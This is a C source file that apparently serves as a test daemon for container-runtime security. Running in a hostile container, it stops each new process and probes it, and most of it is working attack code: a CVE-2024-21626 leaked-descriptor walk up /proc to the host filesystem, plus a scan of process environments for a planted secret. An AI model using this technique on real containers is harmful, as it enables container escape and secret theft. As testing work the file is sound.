/* A hostile container's daemon (run with CAP_SYS_PTRACE): it stops each new process
 * of its pid namespace the moment it appears, the way an attacker catches a helper
 * process in the window before it execs, and probes it:
 *   - its executable (device, inode, link text),
 *   - every descriptor it holds (link text), and a walk from each one up the
 *     host's /proc to another process's root, looking for a marker file,
 *   - whether its environment holds a secret.
 * One line per finding goes to the report file. Usage:
 *   stopper REPORT MARKER_PATH HOST_PID SECRET HOLD
 * With HOLD=1 the caught process stays stopped (for the host to inspect), else it is
 * continued. Runs until killed. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static FILE *report;

static int last_pid(void) {
    char buf[32] = {0};
    int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
    if (fd < 0)
        return -1;
    read(fd, buf, sizeof buf - 1);
    close(fd);
    return atoi(buf);
}

/* SIGSTOP is delivered asynchronously: wait (briefly) until pid is really stopped, so
 * that what is probed is the process as it was caught. */
static void wait_stopped(int pid) {
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    for (int i = 0; i < 100000; i++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0)
            return;
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n <= 0)
            return;
        buf[n] = 0;
        char *state = strrchr(buf, ')');
        if (!state || state[2] == 'T' || state[2] == 't' || state[2] == 'Z')
            return;
    }
}

static void probe(int pid, const char *marker, const char *host_pid, const char *secret) {
    char path[512], link[4096];
    struct stat st;
    ssize_t n;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    memset(link, 0, sizeof link);
    readlink(path, link, sizeof link - 1);
    if (stat(path, &st) == 0)
        fprintf(report, "exe %d %lu %lu %s\n", pid, (unsigned long)st.st_dev,
                (unsigned long)st.st_ino, link);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] == '.')
            continue;
        char fdpath[512];
        snprintf(fdpath, sizeof fdpath, "/proc/%d/fd/%s", pid, e->d_name);
        memset(link, 0, sizeof link);
        readlink(fdpath, link, sizeof link - 1);
        fprintf(report, "fd %d %s %s\n", pid, e->d_name, link);
        /* CVE-2024-21626: from a leaked host directory fd, climb to the host. */
        for (int up = 0; up < 4; up++) {
            char walk[1024] = {0};
            snprintf(walk, sizeof walk, "%s", fdpath);
            for (int i = 0; i <= up; i++)
                strncat(walk, "/..", sizeof walk - strlen(walk) - 1);
            strncat(walk, "/", sizeof walk - strlen(walk) - 1);
            strncat(walk, host_pid, sizeof walk - strlen(walk) - 1);
            strncat(walk, "/root", sizeof walk - strlen(walk) - 1);
            strncat(walk, marker, sizeof walk - strlen(walk) - 1);
            int m = open(walk, O_RDONLY);
            if (m >= 0) {
                char got[256] = {0};
                read(m, got, sizeof got - 1);
                fprintf(report, "ESCAPE %d %s %s\n", pid, walk, got);
                close(m);
            }
        }
    }
    if (d)
        closedir(d);
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int fd = open(path, O_RDONLY);
    if (fd >= 0) {
        char env[65536];
        n = read(fd, env, sizeof env - 1);
        if (n > 0 && memmem(env, n, secret, strlen(secret)))
            fprintf(report, "SECRET %d\n", pid);
        close(fd);
    }
    fprintf(report, "caught %d\n", pid);
    fflush(report);
}

int main(int argc, char **argv) {
    if (argc < 6)
        return 2;
    report = fopen(argv[1], "a");
    if (!report)
        return 3;
    int hold = atoi(argv[5]);
    int me = getpid();
    int seen = last_pid();
    fprintf(report, "ready %d\n", me);
    fflush(report);
    for (;;) {
        int next = seen + 1;
        if (next != me && kill(next, SIGSTOP) == 0) {
            wait_stopped(next);
            probe(next, argv[2], argv[3], argv[4]);
            if (!hold)
                kill(next, SIGCONT);
            seen = next;
        } else {
            int now = last_pid();
            if (now > next)  /* missed it (or it was ours): move on */
                seen = now - 1 > seen ? now - 1 : seen;
        }
    }
}
